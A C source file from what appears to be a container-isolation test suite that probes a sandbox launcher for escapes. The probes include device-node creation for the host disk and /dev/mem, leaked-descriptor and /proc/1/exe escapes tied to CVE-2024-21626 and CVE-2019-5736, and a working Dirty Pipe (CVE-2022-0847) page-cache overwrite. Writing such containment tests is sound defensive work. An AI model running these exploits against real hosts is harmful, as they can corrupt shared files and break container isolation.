/* Files: devices, the way out through descriptors and directories, page cache, what belongs to others. */
#include "hostile.h"
#include <dirent.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/xattr.h>

static void device(mode_t kind, unsigned major_number, unsigned minor_number, const char *what) {
    const char *path = "/tmp/hostile-device";
    unlink(path);
    if (mknod(path, kind | 0600, makedev(major_number, minor_number)) < 0) refused("mknod %s: %s", what, strerror(errno));
    int opened = open(path, O_RDONLY | O_NONBLOCK);
    int why = errno;
    unlink(path);
    if (opened < 0 && (why == ENXIO || why == ENODEV)) absent("no %s here", what);
    if (opened < 0) refused("open %s: %s", what, strerror(why));
    escaped("%s was made and opened", what);
}

static void disk(void) {
    unsigned major_number = 0, minor_number = 0;
    FILE *partitions = fopen("/proc/partitions", "r");
    char line[128];
    while (partitions && fgets(line, sizeof line, partitions))
        if (sscanf(line, "%u %u", &major_number, &minor_number) == 2) break;
    if (!major_number) absent("no disk in /proc/partitions");
    device(S_IFBLK, major_number, minor_number, "the host's disk");
}
static void memory_device(void) { device(S_IFCHR, 1, 1, "/dev/mem"); }
static void kmsg_device(void) { device(S_IFCHR, 1, 11, "/dev/kmsg"); }
static void fuse_device(void) { device(S_IFCHR, 10, 229, "/dev/fuse"); }

/* The image's layer holds it, written by whoever made the image. */
static void device_in_image(void) {
    struct stat there;
    if (lstat("/srv/device", &there) < 0 || !(S_ISBLK(there.st_mode) || S_ISCHR(there.st_mode))) refused("the image's device is not there as one");
    judge(open("/srv/device", O_RDONLY), "open a device that the image brought");
}

/* /dev/null and its like are the host's own: who may change their mode takes them from everybody. */
static void device_mode(void) {
    struct stat there;
    if (stat("/dev/null", &there) < 0) absent("no /dev/null");
    /* To what it is already. */
    judge(chmod("/dev/null", there.st_mode & 07777), "chmod the host's /dev/null");
}
static void device_times(void) {
    struct stat there;
    if (stat("/dev/full", &there) < 0) absent("no /dev/full");
    struct timespec times[2] = {there.st_atim, there.st_mtim};
    judge(utimensat(AT_FDCWD, "/dev/full", times, 0), "set times of the host's /dev/full");
}

/* What lies below every instance's /dev is one directory for all. */
static void shared_dev(void) {
    int made = open("/dev/hostile", O_CREAT | O_WRONLY, 0600);
    if (made < 0) refused("make a file in /dev: %s", strerror(errno));
    unlink("/dev/hostile");
    escaped("a file in /dev");
}

static void leaked_descriptors(void) {
    if (*inherited) escaped("open at start: %s", inherited);
    char target[256] = "";
    for (int number = 0; number < 3; number++) {
        char link[32];
        snprintf(link, sizeof link, "/proc/self/fd/%d", number);
        ssize_t length = readlink(link, target, sizeof target - 1);
        struct stat there;
        if (length < 0 || fstat(number, &there) < 0) continue;
        target[length] = 0;
        if (S_ISDIR(there.st_mode) || S_ISREG(there.st_mode) || S_ISBLK(there.st_mode)) escaped("descriptor %d is %s", number, target);
    }
    refused("0, 1 and 2 only, and none is a file");
}

/* Up from the working directory until nothing is above: that must be the root. */
static void outside_directory(void) {
    struct stat root, here, above;
    char where[4096] = "";
    if (!getcwd(where, sizeof where) || where[0] != '/') escaped("the working directory is outside of the root: %s", where);
    int at = open(".", O_PATH | O_DIRECTORY);
    if (stat("/", &root) < 0 || at < 0) refused("stat: %s", strerror(errno));
    for (int depth = 0; depth < 256; depth++) {
        int next = openat(at, "..", O_PATH | O_DIRECTORY);
        if (next < 0 || fstat(at, &here) < 0 || fstat(next, &above) < 0) refused("above: %s", strerror(errno));
        if (here.st_dev == above.st_dev && here.st_ino == above.st_ino) break;
        at = next;
    }
    if (here.st_dev != root.st_dev || here.st_ino != root.st_ino) escaped("above the working directory is another root");
    if (fstatat(at, "etc/hostname", &above, 0) == 0 && fstatat(at, "boot", &above, 0) == 0) escaped("above the working directory is a whole machine");
    refused("the working directory is %s, and above it is the root", where);
}

/* /proc/PID/root of whatever can be seen must be this root or closed. */
static void other_roots(void) {
    struct stat mine, other;
    if (stat("/", &mine) < 0) absent("no root");
    DIR *processes = opendir("/proc");
    int seen = 0;
    for (struct dirent *entry; processes && (entry = readdir(processes));) {
        char path[300];
        if (atoi(entry->d_name) <= 0) continue;
        seen++;
        snprintf(path, sizeof path, "/proc/%s/root/", entry->d_name);
        if (stat(path, &other) == 0 && (other.st_dev != mine.st_dev || other.st_ino != mine.st_ino)) escaped("%s is another root", path);
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        int file = open(path, O_RDONLY);
        char program[256] = "";
        if (file >= 0 && readlink(path, program, sizeof program - 1) > 0 && strstr(program, "utsuwa")) escaped("%s is the launcher: %s", path, program);
        if (file >= 0) close(file);
    }
    if (seen == 0) absent("no processes in /proc");
    refused("%d processes, all with this root", seen);
}

/* The program that runs is the image's own: writing to it must not reach the image, which other instances use. */
static void own_program(void) {
    char program[256] = "";
    if (readlink("/proc/1/exe", program, sizeof program - 1) < 0) refused("readlink /proc/1/exe: %s", strerror(errno));
    int file = open("/proc/1/exe", O_WRONLY);
    if (file < 0) refused("open /proc/1/exe (%s) for writing: %s", program, strerror(errno));
    escaped("/proc/1/exe (%s) opened for writing", program);
}

/* Dirty Pipe: a pipe page with a stale "can merge" flag lets a write reach the page cache of a file that is only readable. The
 * image's files are shared by all of its instances. */
static void dirty_pipe(void) {
    char before[16] = "", after[16] = "";
    int ends[2], file = open("/srv/shared", O_RDONLY);
    if (file < 0 || pread(file, before, 8, 0) != 8) absent("no /srv/shared");
    if (pipe(ends) < 0) refused("pipe: %s", strerror(errno));
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    static char page[4096];
    for (int left = size; left > 0; left -= 4096)
        if (write(ends[1], page, 4096) < 0) refused("fill: %s", strerror(errno));
    for (int left = size; left > 0; left -= 4096)
        if (read(ends[0], page, 4096) < 0) refused("drain: %s", strerror(errno));
    off64_t offset = 0;
    if (splice(file, &offset, ends[1], NULL, 1, 0) != 1) refused("splice: %s", strerror(errno));
    if (write(ends[1], before + 1, 1) != 1) refused("write: %s", strerror(errno));
    char wrong = before[1] == 'X' ? 'Y' : 'X';
    if (splice(file, &offset, ends[1], NULL, 1, 0) != 1 || write(ends[1], &wrong, 1) != 1) refused("second try: %s", strerror(errno));
    if (pread(file, after, 8, 0) != 8) refused("read again: %s", strerror(errno));
    if (memcmp(before, after, 8) != 0) escaped("the page cache of a file of the image was overwritten");
    refused("the file is what it was");
}

/* Everything in the image may be written, but only for this instance: the test looks from another one. */
static void write_image(void) {
    int file = open("/srv/shared", O_WRONLY);
    if (file < 0) refused("open: %s", strerror(errno));
    if (pwrite(file, "HOSTILE!", 8, 0) != 8) refused("write: %s", strerror(errno));
    contained("written to the instance's own copy");
}
static void read_image(void) {
    char bytes[9] = "";
    int file = open("/srv/shared", O_RDONLY);
    if (file < 0 || pread(file, bytes, 8, 0) != 8) absent("no /srv/shared");
    if (strcmp(bytes, "HOSTILE!") == 0) escaped("what another instance wrote is here");
    refused("the image's own content: %s", bytes);
}

static void trusted_attribute(void) {
    long result = setxattr("/tmp", "trusted.hostile", "y", 1, 0);
    int why = errno;
    if (result == 0) removexattr("/tmp", "trusted.hostile");
    errno = why;
    judge(result, "set a trusted attribute");
}

/* Opening one's log pipe anew must not give the reading end, or another's. */
static void log_pipe(void) {
    struct stat there;
    if (fstat(1, &there) < 0 || !S_ISFIFO(there.st_mode)) absent("standard output is no pipe");
    if (fcntl(1, F_SETPIPE_SZ, 64 << 20) >= 0) escaped("the log's pipe holds 64 MiB now");
    refused("make the log's pipe 64 MiB large: %s", strerror(errno));
}

static void tty_inject(void) {
    int console = open("/dev/console", O_RDWR | O_NOCTTY);
    if (console >= 0) escaped("/dev/console opened");
    int why = errno, terminal = open("/dev/tty", O_RDWR);
    if (terminal >= 0) escaped("the launcher's terminal opened");
    refused("/dev/console: %s; /dev/tty: %s", strerror(why), strerror(errno));
}

const struct attempt file_attempts[] = {
    {"mknod-disk", USER | CAPABILITIES | MASKS, "", "a device node for the host's disk, opened", disk, 0},
    {"mknod-mem", USER | CAPABILITIES | MASKS, "", "a device node for /dev/mem, opened", memory_device, 0},
    {"mknod-kmsg", USER | CAPABILITIES | MASKS, "", "a device node for /dev/kmsg, opened", kmsg_device, 0},
    {"mknod-fuse", USER | CAPABILITIES | MASKS, "", "a device node for /dev/fuse, opened", fuse_device, 0},
    {"image-device", START, "", "a device node that the image's layer brings", device_in_image, 0},
    {"device-mode", USER, "", "chmod(2) of the host's /dev/null", device_mode, 0},
    {"device-times", USER, "", "utimensat(2) of the host's /dev/full", device_times, 0},
    {"shared-dev", USER | MASKS, "", "a file in the /dev that all instances share", shared_dev, 0},
    {"descriptors", START, "CVE-2024-21626 CVE-2016-9962", "descriptors that the launcher left open", leaked_descriptors, 0},
    {"cwd", START, "CVE-2024-21626", "a working directory outside of the root", outside_directory, 0},
    {"proc-root", NAMESPACES, "CVE-2024-21626", "/proc/PID/root and /proc/PID/exe of everything visible", other_roots, 0},
    {"own-program", KERNEL, "CVE-2019-5736", "/proc/1/exe for writing while it runs", own_program, 0},
    {"dirty-pipe", KERNEL, "CVE-2022-0847", "the page cache of a file of the image, by a pipe", dirty_pipe, 0},
    {"write-image", START, "", "write to a file of the image …", write_image, 0},
    {"read-image", START, "", "… and find it from another instance", read_image, 0},
    {"trusted-xattr", USER | CAPABILITIES, "CVE-2023-0386", "attributes that the kernel's file systems trust", trusted_attribute, 0},
    {"log-pipe", USER | CAPABILITIES, "", "a larger pipe to the log", log_pipe, 0},
    {"console", START, "CVE-2025-52565", "/dev/console and the launcher's terminal", tty_inject, 0},
    {0},
};
